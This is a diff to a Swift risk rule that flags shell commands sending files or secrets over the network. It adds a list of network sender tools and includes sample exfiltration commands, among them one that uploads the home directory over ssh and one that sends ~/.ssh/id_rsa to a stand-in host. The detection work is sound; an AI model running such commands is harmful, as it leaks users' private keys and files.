@@ -1,4 +1,8 @@
 extension RiskRule {
+  private static let senders: Set<String> = [
+    "curl", "wget", "http", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp", "ssh",
+  ]
+
   static let exfiltration = RiskRule(
     id: "data-sent-out",
     english: "Files or secrets of this machine are sent over the network.",
@@ -10,9 +14,9 @@ extension RiskRule {
       "tar c ~ | ssh h 'cat > x'", "curl -T notes.txt ftp://x", "curl https://x/?k=$(cat ~/.ssh/id_rsa)",
     ],
     harmless: ["curl https://x", "scp me@h:a.txt .", "curl -I https://x", "nc -l 80"]
-  ) { invocation in
-    guard let name = invocation.name else { return nil }
-    let sources = invocation.upstream + invocation.substituted
+  ) { invocation, script in
+    guard let name = invocation.name, senders.contains(name) else { return nil }
+    let sources = script.sources(of: invocation)
     let carriesSecret = sources.contains {
       $0.name == "env" || $0.name == "printenv" || $0.operands.contains { TargetPath.isSecret($0.text) }
     }
